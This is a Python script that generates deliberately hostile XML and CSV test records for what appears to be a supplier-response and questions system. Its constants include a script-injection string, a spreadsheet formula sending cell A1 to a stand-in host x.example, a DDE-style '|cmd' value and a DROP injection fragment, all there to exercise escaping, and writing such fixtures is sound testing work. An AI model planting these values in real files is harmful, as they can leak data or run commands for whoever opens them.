#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hostile-records.py FOLDER [--drawn] -- records as hostile as people and programs can make them.

--drawn leaves out emoji and U+009C, which no face can draw, so that a PDF is refused over them.
Answers, themes and questions with markup, formulas, control characters, marks of direction, emoji and
cells of 20,000 letters.  What responses.xml has as confidential stands nowhere else.
"""
import csv
import pathlib
import sys
from xml.sax.saxutils import escape

MARKUP = '</w:t></w:r></w:p><w:p>]]> <script>alert("1")</script> <!-- & &amp; &#0; -- {value} %s \\n ${x}'
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"+1")'
SIGNS = "\u202eright to left\u202c \u200fمرحبا שלום\u200e \u00adsoft\u200b \ufeff 👩🏽‍🚒🇬🇧 e\u0301 \u2028line"
CONTROL = "bell\x07 escape\x1b[31m null-free \x7f \x9c form\x0c feed"
LONG = "".join(f"w{number} " for number in range(3400))[:20000]
PLAIN = {"markup": MARKUP, "formula": FORMULA, "signs": SIGNS, "control": CONTROL, "long": LONG,
         "minus": "-1+1|cmd", "at": "@SUM(1)", "quote": '"; DROP "\'', "tab": "\ttab\r\nnew line"}

SECRETS = [
    "Sealed gel: <b>31 months</b> of charge & no lithium ]]> at all, says our laboratory",
    "=IF(A1>0,\"secret formula of our cell chemistry\",\"none at all of it\")",
    "\u202eتجربة سرية للخلية\u202c \u200fסוד של הסוללה החדשה שלנו\u200e",
    "Ein Geheimnis: Größe der Zelle 👩🏽‍🚒 für Straßen über 900 Meter Höhe",
    "".join(f"secret{number * 7919} " for number in range(1600))[:20000],
]
NAMES = ["<b>Quillon & Daughters</b> Ltd", "\u202eתאורת דרכים הרצליה\u202c plc", "Ysgubor Wen Cyf 👩🏽‍🚒",
         "=Quorndon+Ltd", "Zzyzx Gritters" + " of the Far North" * 40]


def drawn(text):
    if "--drawn" not in sys.argv:
        return text
    return "".join(sign for sign in text if ord(sign) < 0x1F000 and ord(sign) != 0x9C)


def write(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([[drawn(cell) for cell in row] for row in rows])


def responses():
    yield '<?xml version="1.0" encoding="UTF-8"?>'
    yield '<responses xmlns="urn:outset:responses:1" reference="HVC-2026-014" version="0.4">'
    for number, (name, secret) in enumerate(zip(NAMES, SECRETS), 1):
        marked = number % 2
        yield (f'<response id="S{number}" supplier="S{number}" counts="yes" file="responses/{number}.docx"'
               f' format="docx" share="{"yes" if marked else "no"}" contact="yes">')
        yield f'<particular name="name">{escape(name)}</particular>'
        yield f'<particular name="contact">Contact{number} {escape("<i>Zaphod&")}Quux</particular>'
        yield f'<particular name="email">person{number}@quux{number}.example</particular>'
        yield f'<particular name="telephone">01632 96010{number}</particular>'
        yield f'<answer question="Q1" kind="text" found="control"{" sensitive=" + chr(34) + "yes" + chr(34) if marked else ""}>'
        yield f'<said>{escape(secret)}</said>'
        yield f'<reason>{escape("Because <of> our patent & rights, number 88123")}</reason></answer>'
        yield '</response>'
    yield '</responses>'


def main():
    folder = pathlib.Path(sys.argv[1])
    (folder / "responses.xml").write_text(drawn("\n".join(responses()) + "\n"), encoding="utf-8")
    themes = [["Theme", "Supplier", "Question", "Summary"]]
    for key, text in PLAIN.items():
        for number in range(1, 5):
            themes.append([f"{key} {text[:80]}", f"S{number}", "Q1", text if number == 1 else ""])
    write(folder / "themes.csv", themes)
    questions = [["Id", "Received", "From", "Question", "About", "Answer", "Answered", "Published",
                  "Status", "Merged into"]]
    for number, text in enumerate(PLAIN.values(), 1):
        questions.append([f"Q{number}", "2026-11-20", "", text, "R3", text, "2026-11-24", "2026-11-27",
                          "published", ""])
    write(folder / "questions.csv", questions)


if __name__ == "__main__":
    main()
